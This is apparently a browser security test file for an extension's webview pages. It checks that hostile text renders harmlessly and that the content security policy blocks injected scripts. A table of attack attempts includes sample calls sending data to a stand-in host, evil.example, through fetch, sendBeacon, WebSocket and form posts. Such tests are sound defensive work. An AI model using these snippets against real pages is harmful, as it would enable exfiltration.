import assert from 'node:assert/strict';
import type { Browser, Page } from 'playwright-core';
import { startBrowser } from '../../scripts/environment/browser';
import type { ImagePageModel } from '../../src/core/image-page';
import type { PageMessage } from '../../src/core/page-message';
import { nothingPruned, type PrunePageModel } from '../../src/core/prune/page';
import { oneLine } from '../../src/core/untrusted';
import { until } from '../support/conditions';
import { assertHarmlessLine, hostileTexts, poisoned } from '../support/hostile';
import { build, buildForm, containerOfPage, context, inspect, logPart, logs, openPage, plan, runForm, stats, usage } from './pages';

/** Words of a fixed set, and keys by which parts of a model find each other. */
const kept = new Set(['kind', 'key', 'needs', 'kinds', 'state', 'scope', 'subject', 'volumes', 'filters', 'prunable', 'action', 'targets', 'sharing', 'notes', 'language', 'part', 'builder', 'before', 'source', 'place']);

interface PageCase {
  readonly page: string;
  /** The message with this text in every place; sentences about failures are made harmless before they reach a page. */
  readonly message: (text: string) => object | readonly object[];
}

const common = { kind: 'show', busy: false, modelNumber: 1, identity: { engine: '', argument: {} }, translations: {}, language: 'en' };
const cases: readonly PageCase[] = [
  { page: 'inspect', message: (text) => ({ ...common, error: oneLine(text), model: withLabels(poisoned(inspect, text, kept), text) }) },
  { page: 'container', message: (text) => ({ ...common, error: oneLine(text), model: { ...poisoned(containerOfPage, text, kept), labels: { [text]: text } } }) },
  { page: 'stats', message: (text) => ({ ...common, error: oneLine(text), model: poisoned(stats, text, kept) }) },
  { page: 'build', message: (text) => ({ ...common, error: oneLine(text), model: { ...poisoned(build, text, kept), selected: text } }) },
  { page: 'build-context', message: (text) => ({ ...common, error: oneLine(text), model: poisoned(context, text, kept) }) },
  // A field takes 20,000 characters, and the host gives it no more.
  { page: 'build-form', message: (text) => ({ ...common, error: oneLine(text), model: { ...poisoned(buildForm, text.slice(0, 20_000), kept), revision: text.length + 2 } }) },
  { page: 'run-form', message: (text) => ({ ...common, error: oneLine(text), model: { ...poisoned(runForm, text.slice(0, 20_000), kept), revision: text.length + 2, known: { images: [text], volumes: [text], networks: [text], containers: [text], dockerfiles: [text] } } }) },
  { page: 'disk-usage', message: (text) => ({ ...common, error: oneLine(text), model: { ...poisoned(usage, text, kept), names: { [text]: [text, text] } } }) },
  { page: 'logs', message: (text) => [{ ...common, error: oneLine(text), model: poisoned(logs, text, kept) }, { kind: 'feed', part: { ...poisoned(logPart, text, new Set([...kept, 'stream', 'level', 'matches'])), id: 1e9 } }] },
  { page: 'prune-plan', message: planMessage },
];

function withLabels(model: ImagePageModel, text: string): ImagePageModel {
  return { ...model, details: { ...model.details, labels: { [text]: text, b: text } } };
}

function planMessage(text: string): PageMessage<PrunePageModel> {
  const gone = { kind: 'images', id: text, names: [text, text] } as const;
  return {
    ...common, kind: 'show', modelNumber: text.length + 1, error: oneLine(text),
    model: { ...poisoned(plan, text, kept), outcome: { ...nothingPruned, removed: [{ ...gone, action: 'deleted' }], refused: [{ ...gone, reason: text }], untouched: [gone], interrupted: oneLine(text) } },
  };
}

/** A script that sends a message to the page; a long text that stands in many places of it goes to the browser once. */
function sent(message: object, text: string): string {
  const literal = JSON.stringify(text);
  const data = JSON.stringify(message);
  const shared = text.length < 1_000 ? data : data.replaceAll(`${literal}:`, '[text]:').replaceAll(literal, 'text');
  return `((text) => window.dispatchEvent(new MessageEvent('message', { data: ${shared} })))(${literal})`;
}

/** What the extension tells, in its order. */
async function tell(page: Page, messages: object | readonly object[], text: string): Promise<void> {
  for (const message of [messages].flat()) await page.evaluate(sent(message, text));
}

/** Looks at the whole document; runs in the browser. */
const look = `(() => {
  // What is in components, too.
  const all = (root) => [...root.querySelectorAll('*')].flatMap((element) => [element, ...(element.shadowRoot ? all(element.shadowRoot) : [])]);
  const matching = (selector) => all(document).filter((element) => element.matches(selector));
  return {
  elements: [...new Set(all(document.body).map((element) => element.localName))].sort(),
  links: matching('[href], [src], [style*=url], [onclick], [onerror]').filter((element) => !document.head.contains(element) && element.nonce !== 'n').map((element) => element.outerHTML.slice(0, 100)),
  widest: all(document.body).filter((element) => element.getBoundingClientRect().right > document.documentElement.clientWidth + 1).map((element) => element.localName + '.' + element.className).slice(0, 5).join(' '),
  wide: document.documentElement.scrollWidth - document.documentElement.clientWidth,
  text: document.body.innerText,
  titles: matching('[title], [aria-label], [placeholder]').flatMap((element) => ['title', 'aria-label', 'placeholder'].map((name) => element.getAttribute(name) ?? '')),
  };
})()`;

interface Seen {
  readonly elements: readonly string[];
  readonly links: readonly string[];
  readonly wide: number;
  /** What is wider than the page. */
  readonly widest: string;
  readonly text: string;
  readonly titles: readonly string[];
}

const evil = 'https://evil.example/';

/** What a script could try, and the directive of the policy that keeps it from happening. */
const attempts: Readonly<Record<string, { readonly script: string; readonly directive: string }>> = {
  'a form that is sent': { script: `const form = document.createElement('form'); form.action = '${evil}'; form.method = 'post'; document.body.append(form); form.submit();`, directive: 'form-action' },
  'another base': { script: `const base = document.createElement('base'); base.href = '${evil}'; document.head.append(base);`, directive: 'base-uri' },
  'a script of the page’s own': { script: 'const made = document.createElement("script"); made.textContent = "globalThis.owned = 1"; document.body.append(made);', directive: 'script-src' },
  'a script from elsewhere': { script: `const made = document.createElement('script'); made.src = '${evil}x.js'; document.body.append(made);`, directive: 'script-src' },
  'a handler in an attribute': { script: 'const made = document.createElement("p"); made.setAttribute("onclick", "globalThis.owned = 1"); document.body.append(made); made.click();', directive: 'script-src' },
  'a link that is a script': { script: 'const made = document.createElement("a"); made.href = "javascript:globalThis.owned = 1"; document.body.append(made); made.click();', directive: 'script-src' },
  'text as a program': { script: 'const made = document.createElement("script"); made.nonce = "n2"; made.textContent = "globalThis.owned = 1"; document.body.append(made);', directive: 'script-src' },
  'a request': { script: `fetch('${evil}').catch(() => undefined);`, directive: 'connect-src' },
  'a beacon': { script: `navigator.sendBeacon('${evil}', 'x');`, directive: 'connect-src' },
  'a socket': { script: "new WebSocket('wss://evil.example/');", directive: 'connect-src' },
  'a picture': { script: `new Image().src = '${evil}x.png';`, directive: 'img-src' },
  'a picture in a text': { script: 'const made = document.createElement("img"); made.src = "data:image/png;base64,AAAA"; document.body.append(made);', directive: 'img-src' },
  'a style': { script: 'const made = document.createElement("style"); made.textContent = "body { display: none }"; document.head.append(made);', directive: 'style-src' },
  'a style sheet': { script: `const made = document.createElement('link'); made.rel = 'stylesheet'; made.href = '${evil}x.css'; document.head.append(made);`, directive: 'style-src' },
  'a frame': { script: `const made = document.createElement('iframe'); made.src = '${evil}'; document.body.append(made);`, directive: 'frame-src' },
  'an object': { script: `const made = document.createElement('object'); made.data = '${evil}x.swf'; document.body.append(made);`, directive: 'object-src' },
  'a worker': { script: "new Worker(URL.createObjectURL(new Blob(['1'])));", directive: 'worker-src' },
  'a font': { script: `const face = new FontFace('x', 'url(${evil}x.woff2)'); face.load().catch(() => undefined);`, directive: 'font-src' },
  'a sound': { script: `const made = document.createElement('audio'); made.src = '${evil}x.mp3'; document.body.append(made);`, directive: 'media-src' },
};

describe('Hostile names on pages in a real browser', function () {
  // A million letters stand in each place of a page, and the browser lays all of them out.
  this.timeout(240_000);
  let browser: Browser;
  before(async () => {
    browser = await startBrowser();
  });
  after(() => browser.close());

  for (const { page: name, message } of cases) {
    it(`${name}: makes nothing of them but text, and stays as wide as its editor`, async () => {
      const troubles: string[] = [];
      const page = await openPage(browser, name, troubles);
      const show = async (text: string): Promise<Seen> => {
        await tell(page, message(text), text);
        return page.evaluate(look);
      };
      const plain = await show('plain');
      assert.ok(plain.text.includes('plain') && plain.elements.length > 5, plain.text);
      for (const [what, text] of Object.entries(hostileTexts)) {
        const seen = await show(text);
        const more = seen.elements.filter((element) => !plain.elements.includes(element));
        // A long command is folded.
        assert.deepEqual(more.filter((element) => element !== 'details' && element !== 'summary'), [], what);
        assert.deepEqual(seen.links, [], what);
        assert.ok(seen.wide <= 0, `${what}: ${String(seen.wide)} pixels too wide: ${seen.widest}`);
        for (const line of seen.text.split(/[\n\t]/)) assertHarmlessLine(line, `${name}, ${what}`, 100_000);
        for (const title of seen.titles.flatMap((lines) => lines.split('\n'))) assertHarmlessLine(title, `${name}, name of a part, ${what}`, 100_000);
      }
      // A million letters, and names that every object has already.
      for (const text of ['x '.repeat(500_000), '<b>'.repeat(300_000), '__proto__', 'constructor', 'toString', 'hasOwnProperty']) {
        const { links, elements } = await show(text);
        assert.deepEqual(links, []);
        assert.deepEqual(elements.filter((element) => !plain.elements.includes(element) && !['details', 'summary'].includes(element)), []);
      }
      assert.equal(await page.evaluate('({}).polluted ?? Object.keys(Object.prototype).length'), 0);
      assert.deepEqual(troubles, []);
      // Only what the page itself asks for at its beginning.
      assert.deepEqual(await page.evaluate('globalThis.wishes.filter(({ kind }) => kind !== "feed" && kind !== "fed")'), [{ kind: 'ready' }]);
      assert.deepEqual(await page.evaluate('globalThis.violations ?? []'), []);
      await page.close();
    });

    it(`${name}: a script that got in could neither load nor send anything`, async () => {
      const troubles: string[] = [];
      const page = await openPage(browser, name, troubles);
      await tell(page, message('plain'), 'plain');
      for (const [what, { script, directive }] of Object.entries(attempts)) {
        await page.evaluate('globalThis.violations = []; globalThis.owned = undefined');
        await page.evaluate(`(() => { ${script} })()`).catch(() => undefined);
        await until(`${what} to be kept from happening`, () => page.evaluate<boolean>('globalThis.violations.length > 0'));
        const violations = await page.evaluate<readonly string[]>('globalThis.violations');
        assert.ok(violations.every((violation) => violation.startsWith(directive)), `${what}: ${violations.join(', ')}`);
        assert.equal(await page.evaluate('globalThis.owned'), undefined, what);
        assert.equal(await page.evaluate('document.baseURI'), 'http://slipway.test/', what);
      }
      assert.deepEqual(troubles.filter((trouble) => trouble.startsWith('request')), []);
      await page.close();
    });
  }
});
